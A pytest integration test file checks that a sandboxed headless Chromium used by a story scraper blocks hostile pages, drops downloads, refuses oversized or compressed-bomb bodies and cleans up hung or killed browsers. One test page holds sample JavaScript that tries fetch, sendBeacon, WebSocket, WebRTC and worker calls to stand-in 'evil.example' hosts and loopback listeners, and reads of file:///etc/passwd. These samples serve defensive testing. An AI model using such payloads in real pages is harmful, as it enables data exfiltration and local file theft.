"""Hostile pages in a real Chromium, and a browser that dies: nothing gets out, nothing stays."""

from __future__ import annotations

import asyncio
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import closing, suppress
from pathlib import Path

import pytest

from stories.browser.browser import Browser
from stories.browser.folder import remove_abandoned
from stories.errors import UpstreamChanged, UpstreamDown
from stories.http.guard import Guard
from stories.http.headers import Purpose
from stories.ways import WayFailed
from tests.browser_state import is_running
from tests.fake_tiktok.exchange import Request, Response
from tests.fake_tiktok.proxy import FakeProxy, running_proxy
from tests.integration.browser_site import IS_MISSING, ScriptedTikTok, browser_to, page, use

ROOT = Path(__file__).parents[2]
LIST = "/api/story/item_list/"

pytestmark = [
    pytest.mark.integration,
    pytest.mark.anyio,
    pytest.mark.skipif(IS_MISSING, reason="no Chromium here"),
]


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FakeProxy]:
    with running_proxy(ScriptedTikTok(), tmp_path_factory.mktemp("fake")) as running:
        yield running


@pytest.fixture
def site(proxy: FakeProxy) -> ScriptedTikTok:
    site = proxy.tiktok
    assert isinstance(site, ScriptedTikTok)
    site.start_anew()
    return site


@pytest.fixture
async def browser(proxy: FakeProxy) -> AsyncIterator[Browser]:
    async with browser_to(proxy) as browser:
        yield browser


def processes(group: int) -> list[str]:
    """What is left of a process group, the dead that nobody fetched aside."""
    listed = subprocess.run(
        ["ps", "-eo", "pgid,stat,args"], capture_output=True, text=True, check=True
    )
    lines = [line.split(None, 2) for line in listed.stdout.splitlines()[1:]]
    return [args for found, state, args in lines if int(found) == group and state[0] != "Z"]


async def gone(group: int) -> bool:
    """Whether a process group is gone within a few seconds."""
    for _ in range(100):
        if not processes(group):
            return True
        await asyncio.sleep(0.05)
    return False


# --- pages that want out --------------------------------------------------------------------------


@pytest.fixture
def listeners() -> Iterator[tuple[socket.socket, socket.socket]]:
    """A TCP and a UDP socket on loopback that nobody should ever reach."""
    with (
        closing(socket.create_server(("127.0.0.1", 0))) as tcp,
        closing(socket.socket(type=socket.SOCK_DGRAM)) as udp,
    ):
        udp.bind(("127.0.0.1", 0))
        tcp.setblocking(False)
        udp.setblocking(False)
        yield tcp, udp


async def test_a_hostile_page_reaches_nobody(
    site: ScriptedTikTok,
    proxy: FakeProxy,
    browser: Browser,
    listeners: tuple[socket.socket, socket.socket],
) -> None:
    tcp, udp = (listener.getsockname()[1] for listener in listeners)
    here = f"127.0.0.1:{tcp}"
    site.answers["/@wants.out"] = page(
        f"""<head><link rel=preconnect href=https://a.evil.example>
        <link rel=dns-prefetch href=//b.evil.example><link rel=prefetch href=https://c.evil.example>
        <link rel=stylesheet href=https://d.evil.example/x.css></head><body>
        <script src=http://{here}/x.js></script>
        <iframe src=https://e.evil.example></iframe><iframe src=http://{here}/frame></iframe>
        <iframe src=file:///etc/passwd></iframe><img src=http://{here}/x.png>
        <iframe srcdoc="<script>fetch('https://f.evil.example')</script>"></iframe>
        <script>
        const tries = [
          () => fetch('https://g.evil.example', {{mode: 'no-cors'}}),
          () => fetch('http://{here}', {{mode: 'no-cors'}}),
          () => fetch('http://localhost:{tcp}', {{mode: 'no-cors'}}),
          () => fetch('https://www.tiktok.com:8443/'),
          () => fetch('file:///etc/passwd'),
          () => navigator.sendBeacon('https://h.evil.example', 'x'),
          () => new WebSocket('wss://i.evil.example'),
          () => new WebSocket('ws://{here}'),
          () => new EventSource('https://j.evil.example'),
          () => window.open('https://k.evil.example'),
          () => new WebTransport('https://l.evil.example'),
          () => new Worker(URL.createObjectURL(new Blob([
            "fetch('https://m.evil.example'); new WebSocket('ws://{here}')"]))),
          () => {{
            const peer = new RTCPeerConnection({{iceServers: [
              {{urls: 'stun:127.0.0.1:{udp}'}},
              {{urls: 'turn:127.0.0.1:{tcp}?transport=tcp', username: 'u', credential: 'p'}},
              {{urls: 'stun:n.evil.example'}}]}});
            peer.createDataChannel('x');
            peer.createOffer().then(offer => peer.setLocalDescription(offer));
          }},
        ];
        for (const go of tries) {{ try {{ Promise.resolve(go()).catch(() => 0) }} catch {{}} }}
        </script></body>"""
    )
    async with use(browser) as used:
        await used.get("/@wants.out")
        await asyncio.sleep(2)
    assert proxy.strays == [], "what is left for the guard to refuse did not get past it"
    for listener in listeners:
        with pytest.raises(BlockingIOError):
            listener.recv(1) if listener.type == socket.SOCK_DGRAM else listener.accept()
    guard = browser._guard
    assert isinstance(guard, Guard)
    assert {name for name in guard.refused if not name.endswith("evil.example")} <= {
        "www.tiktok.com"
    }


async def test_pictures_media_and_fonts_are_not_loaded(
    site: ScriptedTikTok, browser: Browser
) -> None:
    site.answers["/@full.page"] = page(
        "<style>@font-face {font-family: x; src: url(/font.woff2)} p {font-family: x;"
        " background: url(/background.png)}</style><p>text</p><img src=/picture.png>"
        "<video autoplay src=/clip.mp4></video><audio autoplay src=/song.mp3></audio>"
        "<img srcset='/set.webp 2x'><script>new Image().src = '/by-script.gif'</script>"
        "<script src=/wanted.js></script>"
    )
    async with use(browser) as used:
        await used.get("/@full.page")
        await asyncio.sleep(0.5)
    asked = {path.removeprefix("www.tiktok.com") for path in site.seen_paths}
    assert asked <= {"/@full.page", "/wanted.js", "/favicon.ico"}
    assert "/wanted.js" in asked


async def test_windows_that_a_page_opens_are_closed(site: ScriptedTikTok, browser: Browser) -> None:
    site.answers["/@opens.windows"] = page(
        "<script>for (let n = 0; n < 5; n++) window.open('/popup' + n)</script>"
        "<a id=a href=/popup-link target=_blank>x</a><script>a.click()</script>"
    )
    async with use(browser) as used:
        await used.get("/@opens.windows")
        await asyncio.sleep(0.5)
        assert browser._connection is not None
        targets = (await browser._connection.send("Target.getTargets"))["targetInfos"]
        context = used.visit._page.context
        pages = [
            target["url"]
            for target in targets
            if target["type"] == "page" and target.get("browserContextId") == context
        ]
    assert pages == ["https://www.tiktok.com/@opens.windows"]


@pytest.mark.parametrize("by", ["navigation", "link"])
async def test_a_download_is_not_kept(
    site: ScriptedTikTok, browser: Browser, by: str, tmp_path: Path
) -> None:
    body = memoryview(b"MZ" + bytes(100_000))
    kind = [("Content-Type", "application/octet-stream")]
    site.answers["/evil.exe"] = Response(
        200, [*kind, ("Content-Disposition", "attachment; filename=evil.exe")], [body]
    )
    site.answers["/@has.download"] = page(
        "<a id=a href=/evil.exe download>x</a><script>a.click()</script>"
    )
    async with use(browser) as used:
        if by == "navigation":
            with pytest.raises(UpstreamDown):
                await used.get("/evil.exe")
        else:
            assert "evil.exe" in await used.get("/@has.download")
        await asyncio.sleep(0.5)
        assert browser._chromium is not None
        home = browser._chromium._folder.path
        assert not [path for path in home.rglob("*") if "evil" in path.name.lower()]


@pytest.mark.parametrize("purpose", [Purpose.NAVIGATE, Purpose.LIST])
async def test_a_body_that_is_too_large_is_not_read(
    site: ScriptedTikTok, browser: Browser, purpose: Purpose
) -> None:
    path = "/@far.too.large" if purpose is Purpose.NAVIGATE else f"{LIST}?authorId=1&cursor=0"
    site.answers[path.partition("?")[0]] = Response(
        200, [("Content-Type", "text/html")], [memoryview(bytes(1024 * 1024))] * 100
    )
    async with use(browser) as used:
        with pytest.raises(UpstreamChanged, match="larger"):
            await used.get(path, purpose=purpose)
        site.answers["/@small"] = page("<p>small</p>")
        assert await used.get("/@small") == "<p>small</p>"


async def test_a_packed_body_that_is_too_large_is_not_read(
    site: ScriptedTikTok, browser: Browser
) -> None:
    site.account("is.bomb")
    site.fault("profile", "huge", size=300_000_000)
    async with use(browser) as used:
        with pytest.raises(UpstreamChanged, match="larger"):
            await used.get("/@is.bomb")


async def test_text_that_swells_on_its_way_is_too_large_or_read_whole(
    site: ScriptedTikTok, browser: Browser
) -> None:
    body = b"<p>" + b"\x01" * (7 * 1024 * 1024)
    site.answers["/@control.signs"] = Response(
        200, [("Content-Type", "text/html")], [memoryview(body)]
    )
    async with use(browser) as used:
        with pytest.raises((UpstreamChanged, WayFailed)):
            await used.get("/@control.signs")


# --- pages and browsers that hang or die ----------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<script>for (;;) alert('again')</script>",
        "<script>for (;;) ;</script>",
        "<script>const end = Date.now() + 60000; while (Date.now() < end) print()</script>",
    ],
)
async def test_a_page_that_never_rests_is_killed_in_time(
    site: ScriptedTikTok, proxy: FakeProxy, text: str
) -> None:
    site.answers["/@never.rests"] = page(text)
    site.answers["/@quiet"] = page("<p>quiet</p>")
    async with browser_to(proxy) as browser:
        await look_up(browser, "/@quiet")
        browser._visit_s = 4
        began = time.monotonic()
        with pytest.raises(WayFailed, match="took more than 4 s"):
            await look_up(browser, "/@never.rests", data="/api/other")
        assert time.monotonic() - began < 12
        browser._visit_s = 25
        await look_up(browser, "/@quiet")


async def look_up(browser: Browser, path: str, *, data: str | None = None) -> None:
    """Ask for a page, and for data from within it."""
    async with use(browser) as used:
        await used.get(path)
        if data is not None:
            await used.get(data, purpose=Purpose.LIST)


async def test_a_page_that_never_loads_is_given_up(site: ScriptedTikTok, proxy: FakeProxy) -> None:
    site.account("never.loads")
    site.answers["/@quiet"] = page("<p>quiet</p>")
    site.fault("profile", "stall", after=100)
    async with browser_to(proxy) as browser:
        await look_up(browser, "/@quiet")
        browser._visit_s = 3
        with pytest.raises(WayFailed, match="took more than 3 s"):
            await look_up(browser, "/@never.loads")
        assert not is_running(browser)


async def test_a_page_that_reloads_for_ever_comes_to_an_end(
    site: ScriptedTikTok, browser: Browser
) -> None:
    site.answers["/@reloads"] = page("<script>location.reload()</script>")
    async with use(browser) as used:
        with suppress(UpstreamDown):  # no document was there for long enough
            assert "reload" in await used.get("/@reloads")
    assert len(site.seen_paths) < 20


@pytest.mark.parametrize("what", ["browser", "page"])
async def test_a_browser_that_dies_in_the_middle_of_a_list_fails_and_the_next_one_works(
    site: ScriptedTikTok, browser: Browser, what: str
) -> None:
    account = site.account("dies.here")
    account.photo()

    def kill(request: Request) -> Response | None:
        chromium = browser._chromium
        assert chromium is not None
        if what == "browser":
            os.killpg(chromium.pid, signal.SIGKILL)
        else:
            listed = subprocess.run(
                ["pgrep", "-g", str(chromium.pid), "-f", "type=renderer"],
                capture_output=True,
                check=True,
            )
            for pid in listed.stdout.split():
                os.kill(int(pid), signal.SIGKILL)
        return None

    site.answers[LIST] = kill
    with pytest.raises(WayFailed, match=r"ended|crashed"):
        async with use(browser) as used:
            await used.stories("dies.here")
    del site.answers[LIST]
    async with use(browser) as used:
        assert len((await used.stories("dies.here")).stories) == 1


async def test_an_idle_browser_is_gone_with_its_folder(
    site: ScriptedTikTok, proxy: FakeProxy
) -> None:
    site.answers["/@quiet"] = page("<p>quiet</p>")
    async with browser_to(proxy, idle_s=0.3) as browser:
        assert not is_running(browser), "it is not started before it is needed"
        async with use(browser) as used:
            await used.get("/@quiet")
            chromium = browser._chromium
            assert chromium is not None
            assert len(processes(chromium.pid)) > 3
        async with use(browser) as used:
            assert browser._chromium is chromium, "it is kept for the next one"
        for _ in range(100):
            if not is_running(browser) and not chromium._folder.path.exists():
                break
            await asyncio.sleep(0.1)
        assert not is_running(browser)
        assert await gone(chromium.pid)
        assert not chromium._folder.path.exists()


WORKER = """
import asyncio, sys
from stories.browser.browser import Browser
class Way:
    url = "http://127.0.0.1:1"
    async def start(self): pass
async def main():
    browser = Browser("local", guard=Way())
    async with browser.visit():
        print(browser._chromium.pid, browser._chromium._folder.path, flush=True)
        await asyncio.sleep(60)
asyncio.run(main())
"""


def test_a_browser_ends_with_a_worker_that_is_killed() -> None:
    with subprocess.Popen(
        [sys.executable, "-c", WORKER], stdout=subprocess.PIPE, cwd=ROOT
    ) as worker:
        assert worker.stdout is not None
        group, folder = worker.stdout.readline().decode().split()
        assert len(processes(int(group))) > 3
        worker.kill()
    for _ in range(100):
        if not processes(int(group)):
            break
        time.sleep(0.05)
    assert not processes(int(group))
    os.utime(folder, (0, 0))
    remove_abandoned(Path(folder).parent)
    assert not Path(folder).exists(), "the next browser clears up"


async def test_a_cancelled_look_up_leaves_the_browser_usable(
    site: ScriptedTikTok, browser: Browser
) -> None:
    site.account("is.slow")
    site.fault("profile", "stall", after=100, times=1)
    site.answers["/@quiet"] = page("<p>quiet</p>")

    task = asyncio.create_task(look_up(browser, "/@is.slow"))
    await asyncio.sleep(2)
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)
    await look_up(browser, "/@quiet")
